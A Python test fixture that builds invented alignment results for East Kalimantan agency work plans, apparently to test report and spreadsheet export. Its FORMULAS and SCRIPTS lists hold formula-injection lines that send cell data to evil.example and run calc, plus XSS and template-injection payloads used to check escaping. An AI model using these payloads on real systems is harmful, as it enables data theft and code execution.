"""A made example: results built by hand, as a run would give them, hostile strings among them.

Nothing here comes from a real Renja; agencies are named as they are, plans and sums are invented.
"""

from __future__ import annotations

from dataclasses import replace

from alignment.types import (
    Alignment,
    DirectiveEvidence,
    DirectiveFinding,
    DirectiveOutcome,
    DocumentKind,
    DocumentResult,
    Evidence,
    Extraction,
    Failure,
    Indicator,
    Level,
    Mission,
    MissionSet,
    Notice,
    Parent,
    PlanItem,
    ReadingQuality,
    Status,
    ThemeWeight,
)

MODEL_ID = "contoh-0000000000000000"

MISSIONS = MissionSet(
    region="Provinsi Kalimantan Timur",
    start_year=2025,
    end_year=2030,
    vision="Kaltim Sukses Menuju Generasi Emas",
    missions=tuple(
        Mission(f"misi-{number}", text)
        for number, text in enumerate(
            (
                "Mewujudkan Sumber Daya Manusia yang Unggul dan Sejahtera",
                "Mewujudkan Pusat Ekonomi Baru Berbasis Industrialisasi Komoditas Unggulan Daerah",
                "Meningkatkan Pembangunan Infrastruktur Guna Menunjang Kegiatan Perekonomian",
                "Mewujudkan Tata Kelola Pemerintahan yang Baik Berbasis Teknologi Informasi",
                "Meningkatkan Kualitas Kehidupan Beragama serta Penguatan Budaya",
                "Mewujudkan Pembangunan Berwawasan Lingkungan yang Berkelanjutan",
            ),
            start=1,
        )
    ),
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/x","klik")',
    "+CMD|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|'/c calc'!A1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "{=SUM(1,2)}",
    '=WEBSERVICE("http://evil.example/"&A1)',
)

SCRIPTS = (
    "<script>document.title='PWNED'</script>",
    "</script><script>document.title='PWNED'</script>",
    "<img src=http://evil.example/a.png onerror=\"document.title='PWNED'\">",
    "<svg onload=\"document.title='PWNED'\">",
    "\"><script>document.title='PWNED'</script>",
    "' onmouseover='document.title=\"PWNED\"' x='",
    '" autofocus onfocus="document.title=\'PWNED\'" x="',
    "<iframe src=\"javascript:parent.document.title='PWNED'\"></iframe>",
    "<a href=\"javascript:document.title='PWNED'\">klik</a>",
    "<style>@import url(http://evil.example/a.css);body{display:none}</style>",
    "</title><script>document.title='PWNED'</script>",
    "</textarea><script>document.title='PWNED'</script>",
    "</style><script>document.title='PWNED'</script>",
    "<!--<script>document.title='PWNED'</script>-->",
    "--><script>document.title='PWNED'</script><!--",
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${document.title='PWNED'}",
    "<details open ontoggle=\"document.title='PWNED'\">",
    "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "&lt;script&gt;document.title='PWNED'&lt;/script&gt;",
)


def item(name: str = "Pembangunan Jalan", **fields: object) -> PlanItem:
    """An item of a made document; any field may be given."""
    values: dict[str, object] = {
        "item_id": f"id-{name[:40]}-{fields.get('code')}-{fields.get('document')}",
        "document": "dinas.pdf",
        "level": Level.SUB_KEGIATAN,
        "page_number": 1,
    }
    return PlanItem(name=name, **(values | fields))  # type: ignore[arg-type]


def alignment(of: PlanItem, status: Status = Status.SELARAS, **fields: object) -> Alignment:
    """A verdict on ``of``; any field may be given."""
    values: dict[str, object] = {
        "mission_id": None if status is Status.TIDAK_SELARAS else "misi-1",
        "none_probability": 0.9 if status is Status.TIDAK_SELARAS else 0.1,
        "reason": "Alasan contoh.",
        "model_id": MODEL_ID,
    }
    return Alignment(item=of, status=status, **(values | fields))  # type: ignore[arg-type]


def ranked(results: list[DocumentResult]) -> list[DocumentResult]:
    """The same results with ranks over all of them, as a run gives them."""
    unranked = {Status.PENUNJANG, Status.TIDAK_TERBACA}
    worst = sorted(
        (one for result in results for one in result.alignments if one.status not in unranked),
        key=lambda one: (-one.none_probability, -(one.item.budget_rupiah or 0), one.item.item_id),
    )
    ranks = {one.item.item_id: rank for rank, one in enumerate(worst, start=1)}
    return [
        replace(
            result,
            alignments=tuple(
                replace(one, rank=ranks.get(one.item.item_id)) for one in result.alignments
            ),
        )
        for result in results
    ]


def result(
    document: str,
    opd: str,
    alignments: list[Alignment],
    **quality: object,
) -> DocumentResult:
    """A document that was read and judged."""
    items = tuple(one.item for one in alignments)
    values: dict[str, object] = {"item_count": len(items), "explained_budget_share": 1.0}
    return DocumentResult(
        document=document,
        extraction=Extraction(
            document=document,
            kind=DocumentKind.RENJA,
            opd=opd,
            year=2026,
            page_count=42,
            items=items,
            quality=ReadingQuality(**(values | quality)),  # type: ignore[arg-type]
        ),
        alignments=tuple(alignments),
        seconds=1.2,
    )


# (program code, program, [(kegiatan, [(sub kegiatan, indicator, target, unit, million rupiah,
#  status, mission, none probability, reason)])])
_S, _T, _P, _A, _N, _U = (
    Status.SELARAS,
    Status.TIDAK_SELARAS,
    Status.PERLU_DITINJAU,
    Status.AMBIGU,
    Status.PENUNJANG,
    Status.TIDAK_TERBACA,
)
_Row = tuple[str, str, str, str, float, Status, int | None, float]
_PLANS: dict[tuple[str, str], list[tuple[str, str, list[tuple[str, list[_Row]]]]]] = {
    ("renja-dinas-pendidikan-2026.pdf", "Dinas Pendidikan dan Kebudayaan"): [
        (
            "1.01.01",
            "PROGRAM PENUNJANG URUSAN PEMERINTAHAN DAERAH PROVINSI",
            [
                (
                    "Administrasi Keuangan Perangkat Daerah",
                    [
                        (
                            "Penyediaan Gaji dan Tunjangan ASN",
                            "Jumlah ASN yang digaji",
                            "5.412",
                            "Orang",
                            912_400,
                            _N,
                            4,
                            0.4,
                        ),
                        (
                            "Penyediaan Peralatan dan Perlengkapan Kantor",
                            "Jumlah paket",
                            "12",
                            "Paket",
                            1_240.5,
                            _N,
                            4,
                            0.5,
                        ),
                    ],
                ),
            ],
        ),
        (
            "1.01.02",
            "PROGRAM PENGELOLAAN PENDIDIKAN",
            [
                (
                    "Pengelolaan Pendidikan Sekolah Menengah Atas",
                    [
                        (
                            "Pembangunan Ruang Kelas Baru",
                            "Jumlah ruang kelas SMA yang dibangun",
                            "64",
                            "Ruang",
                            51_200,
                            _S,
                            1,
                            0.03,
                        ),
                        (
                            "Pengadaan Mebel Sekolah",
                            "Jumlah SMP penerima mebel",
                            "12",
                            "Sekolah",
                            943.8,
                            _T,
                            None,
                            0.93,
                        ),
                        (
                            "Penyediaan Biaya Personil Peserta Didik",
                            "Siswa penerima",
                            "18.200",
                            "Orang",
                            148_000,
                            _S,
                            1,
                            0.02,
                        ),
                        (
                            "Perjalanan Studi Banding Komite Sekolah",
                            "Jumlah peserta studi banding",
                            "40",
                            "Orang",
                            1_850,
                            _T,
                            None,
                            0.91,
                        ),
                    ],
                ),
                (
                    "Pengelolaan Pendidikan Khusus",
                    [
                        (
                            "Bantuan Operasional SLB Swasta",
                            "Lembaga penerima",
                            "14",
                            "Lembaga",
                            1_463.5,
                            _S,
                            1,
                            0.05,
                        ),
                    ],
                ),
            ],
        ),
        (
            "2.22.02",
            "PROGRAM PENGEMBANGAN KEBUDAYAAN",
            [
                (
                    "Pelestarian Kesenian Tradisional",
                    [
                        (
                            "Pembinaan Sanggar Seni Tradisi Kutai dan Dayak",
                            "Sanggar yang dibina",
                            "38",
                            "Sanggar",
                            4_120,
                            _S,
                            5,
                            0.04,
                        ),
                        (
                            "Festival Budaya Kolosal Hari Jadi",
                            "Jumlah acara",
                            "1",
                            "Kegiatan",
                            6_750,
                            _P,
                            5,
                            0.46,
                        ),
                    ],
                ),
            ],
        ),
    ],
    ("renja-dinas-pupr-2026.pdf", "Dinas Pekerjaan Umum, Penataan Ruang, dan Perumahan Rakyat"): [
        (
            "1.03.10",
            "PROGRAM PENYELENGGARAAN JALAN",
            [
                (
                    "Penyelenggaraan Jalan Provinsi",
                    [
                        (
                            "Rekonstruksi Jalan Provinsi Ruas Sp. 3 Petung-Sotek",
                            "Panjang jalan",
                            "12,4",
                            "Km",
                            186_300,
                            _S,
                            3,
                            0.02,
                        ),
                        (
                            "Pemeliharaan Berkala Jalan",
                            "Panjang jalan",
                            "88",
                            "Km",
                            96_450,
                            _S,
                            3,
                            0.02,
                        ),
                        (
                            "Pembangunan Gapura Batas Kabupaten",
                            "Jumlah gapura",
                            "4",
                            "Unit",
                            8_400,
                            _T,
                            None,
                            0.88,
                        ),
                        (
                            "Penyusunan Rencana Teknis Jembatan Mahakam IV",
                            "Dokumen",
                            "2",
                            "Dokumen",
                            3_900,
                            _S,
                            3,
                            0.06,
                        ),
                    ],
                ),
            ],
        ),
        (
            "1.03.03",
            "PROGRAM PENGELOLAAN DAN PENGEMBANGAN SISTEM PENYEDIAAN AIR MINUM",
            [
                (
                    "Pengelolaan SPAM Lintas Kabupaten/Kota",
                    [
                        (
                            "Pembangunan SPAM Regional",
                            "Kapasitas",
                            "150",
                            "Liter/detik",
                            74_500,
                            _A,
                            3,
                            0.12,
                        ),
                        (
                            "Perluasan Jaringan Perpipaan",
                            "Sambungan rumah",
                            "4.200",
                            "SR",
                            22_800,
                            _S,
                            3,
                            0.07,
                        ),
                    ],
                ),
            ],
        ),
        (
            "1.04.05",
            "PROGRAM PENINGKATAN PRASARANA, SARANA DAN UTILITAS UMUM (PSU)",
            [
                (
                    "Penyelenggaraan PSU Permukiman",
                    [
                        (
                            "Penataan Taman Rumah Jabatan",
                            "Luas taman",
                            "1,2",
                            "Ha",
                            5_600,
                            _T,
                            None,
                            0.86,
                        ),
                    ],
                ),
            ],
        ),
    ],
    ("renja-dlh-2026.pdf", "Dinas Lingkungan Hidup"): [
        (
            "2.11.03",
            "PROGRAM PENGENDALIAN PENCEMARAN DAN/ATAU KERUSAKAN LINGKUNGAN HIDUP",
            [
                (
                    "Pencegahan Pencemaran Lingkungan Hidup",
                    [
                        (
                            "Pemantauan Kualitas Air Sungai Mahakam",
                            "Titik pantau",
                            "42",
                            "Titik",
                            2_310,
                            _S,
                            6,
                            0.02,
                        ),
                        (
                            "Rehabilitasi Mangrove Delta Mahakam",
                            "Luas",
                            "310",
                            "Ha",
                            9_870,
                            _S,
                            6,
                            0.02,
                        ),
                    ],
                ),
            ],
        ),
        (
            "2.11.08",
            "PROGRAM PENINGKATAN PENDIDIKAN DAN PELATIHAN LINGKUNGAN HIDUP",
            [
                (
                    "Penyelenggaraan Pendidikan Lingkungan Hidup",
                    [
                        (
                            "Pembinaan Sekolah Adiwiyata",
                            "Sekolah",
                            "55",
                            "Sekolah",
                            1_120,
                            _A,
                            6,
                            0.1,
                        ),
                        (
                            "Cetak Kalender dan Cendera Mata Dinas",
                            "Eksemplar",
                            "5.000",
                            "Eksemplar",
                            745,
                            _T,
                            None,
                            0.95,
                        ),
                    ],
                ),
            ],
        ),
    ],
    ("renja-diskominfo-2026.pdf", "Dinas Komunikasi dan Informatika"): [
        (
            "2.16.03",
            "PROGRAM APLIKASI INFORMATIKA",
            [
                (
                    "Pengelolaan e-Government",
                    [
                        (
                            "Pengembangan Aplikasi SAKTI",
                            "Layanan terintegrasi",
                            "45",
                            "Layanan",
                            12_600,
                            _S,
                            4,
                            0.02,
                        ),
                        (
                            "Langganan Media Luar Ruang Ucapan Selamat",
                            "Titik",
                            "60",
                            "Titik",
                            3_275,
                            _P,
                            4,
                            0.58,
                        ),
                        (
                            "Penyediaan Internet Desa",
                            "Desa terlayani",
                            "841",
                            "Desa",
                            38_400,
                            _A,
                            4,
                            0.08,
                        ),
                    ],
                ),
            ],
        ),
    ],
}

_REASONS = {
    _S: "Indikator dan namanya mendukung {misi}.",
    _T: "Indikatornya bukan layanan yang dituju misi mana pun; nama item umum, isinya menyimpang.",
    _P: "Nama item dekat dengan {misi}, tetapi indikatornya hanya menghitung acara.",
    _A: "Item ini sama kuat mendukung {misi} dan misi 1.",
    _N: "Urusan rutin perangkat daerah.",
    _U: "Teks pada halaman ini rusak.",
}


def _plan(document: str, opd: str) -> list[Alignment]:
    rows: list[Alignment] = []
    page = 18
    for code, program, activities in _PLANS[(document, opd)]:
        top = Parent(Level.PROGRAM, code, program)
        leaves = [row for _, subs in activities for row in subs]
        common = {"document": document, "opd": opd, "year": 2026}
        rows.append(
            _verdict(
                item(
                    program,
                    level=Level.PROGRAM,
                    code=code,
                    page_number=page,
                    budget_rupiah=sum(int(row[4] * 10**6) for row in leaves),
                    **common,
                ),
                max(leaves, key=lambda row: row[4]),
            )
        )
        for place, (activity, subs) in enumerate(activities, start=1):
            middle = Parent(Level.KEGIATAN, f"{code}.1.{place:02}", activity)
            rows.append(
                _verdict(
                    item(
                        activity,
                        level=Level.KEGIATAN,
                        code=middle.code,
                        page_number=page,
                        parents=(top,),
                        budget_rupiah=sum(int(row[4] * 10**6) for row in subs),
                        **common,
                    ),
                    max(subs, key=lambda row: row[4]),
                )
            )
            for number, row in enumerate(subs, start=1):
                page += number % 2
                name, indicator, target, unit, million, *_ = row
                rows.append(
                    _verdict(
                        item(
                            name,
                            code=f"{middle.code}.{number:04}",
                            parents=(top, middle),
                            indicators=(Indicator(indicator, target, unit),),
                            budget_rupiah=int(million * 10**6),
                            page_number=page,
                            location="Provinsi Kalimantan Timur",
                            fund_source="APBD",
                            **common,
                        ),
                        row,
                    )
                )
    return rows


def _verdict(of: PlanItem, row: _Row) -> Alignment:
    *_, status, number, none_probability = row
    mission = f"misi-{number}" if number else None
    rest = (1 - none_probability) / 6
    shares = {one.id: rest for one in MISSIONS.missions}
    if mission:
        shares[mission] += (1 - none_probability) - rest * 6
    ground = Evidence(
        mission_id=mission,
        mission_text=MISSIONS.missions[number - 1].text if number else "",
        item_text=of.indicators[0].text if of.indicators else of.name,
        kind="meaning" if number else "content",
        weight=0.7,
    )
    return alignment(
        of,
        status,
        mission_id=mission,
        none_probability=none_probability,
        probabilities=shares,
        reason=_REASONS[status].format(misi=f"misi {number}"),
        evidence=(ground,),
        themes=(ThemeWeight("jalan", 0.7), ThemeWeight("tata_ruang", 0.2)),
    )


def example() -> list[DocumentResult]:
    """Four agencies, 45 rows, a scan and a broken file that gave nothing."""
    read = [
        result(
            document,
            opd,
            _plan(document, opd),
            explained_budget_share=share,
            pages_to_check=pages,
            notices=notices,
        )
        for (document, opd), share, pages, notices in zip(
            _PLANS,
            (1.0, 0.986, 1.0, None),
            ((), (31, 32), (), (7,)),
            (
                (),
                (Notice("total_unexplained", "A total of 5.000 is printed.", 31),),
                (),
                (),
            ),
            strict=True,
        )
    ]
    failed = [
        DocumentResult(
            "pindaian.pdf",
            failure=Failure(
                "pindaian.pdf",
                "extract",
                "scan",
                "The pages are pictures and no OCR is installed.",
                "Install tesseract with Indonesian data.",
            ),
        ),
        DocumentResult(
            "rusak.pdf",
            failure=Failure(
                "rusak.pdf",
                "gate",
                "broken",
                "The file ends in the middle of page 3.",
                "Ask the OPD for the file again.",
            ),
        ),
    ]
    checked = [
        replace(one, directives=_directives(one.extraction.opd or "", outcomes))
        for one, outcomes in zip(read, _OUTCOMES, strict=True)
        if one.extraction
    ]
    return ranked([*checked, *failed])


def _directives(opd: str, outcomes: tuple[DirectiveOutcome, ...]) -> tuple[DirectiveFinding, ...]:
    titles = ("Layanan digital", "Konflik kepentingan")
    return tuple(
        DirectiveFinding(
            directive_id=f"arahan-{number}",
            title=title,
            opd=opd,
            outcome=outcome,
            sentence=f"Rencana {opd} memuat contoh keterangan tentang {title.lower()}.",
            item_count=1,
            amount_rupiah=12_600_000_000,
            total_rupiah=54_275_000_000,
            share=0.232,
            evidence=(
                DirectiveEvidence(
                    "1", "Pengembangan Aplikasi SAKTI", 18, "layanan", ("aplikasi",), 12_600_000_000
                ),
            ),
        )
        for number, (title, outcome) in enumerate(zip(titles, outcomes, strict=False))
    )


_OUTCOMES = (
    (DirectiveOutcome.SEBAGIAN, DirectiveOutcome.PERLU_PERNYATAAN),
    (DirectiveOutcome.TIDAK_ADA, DirectiveOutcome.TIDAK_DAPAT_DIPERIKSA),
    (DirectiveOutcome.TIDAK_ADA,),
    (DirectiveOutcome.ADA, DirectiveOutcome.ADA),
)


def hostile() -> list[DocumentResult]:
    """A document whose every text tries to run: 10 formulas and 20 scripts in each field."""
    rows = [
        alignment(
            item(
                text,
                item_id=f"hostile-{number}",
                document=f"{text[:20]}.pdf",
                opd=text,
                code=text,
                location=text,
                fund_source=text,
                budget_rupiah=10**6 + number,
                indicators=(Indicator(text, text, text),),
                warnings=(Notice(text, text, 1),),
                parents=(Parent(Level.PROGRAM, None, text),),
            ),
            Status.TIDAK_SELARAS,
            none_probability=0.99,
            reason=text,
            model_id=MODEL_ID,
            evidence=(Evidence(None, text, text, text, 0.5),),
            themes=(ThemeWeight(text, 0.5),),
        )
        for number, text in enumerate((*FORMULAS, *SCRIPTS))
    ]
    nasty = SCRIPTS[0]
    failed = DocumentResult(nasty, failure=Failure(nasty, nasty, nasty, nasty, nasty, 1))
    finding = DirectiveFinding(
        nasty,
        nasty,
        nasty,
        DirectiveOutcome.SEBAGIAN,
        nasty,
        1,
        1,
        1,
        1.0,
        evidence=(DirectiveEvidence(nasty, nasty, 1, nasty, (nasty,), 1, nasty),),
    )
    read = result(nasty, nasty, rows, notices=(Notice(nasty, nasty, 2),), pages_to_check=(2,))
    return ranked([replace(read, directives=(finding,)), failed])
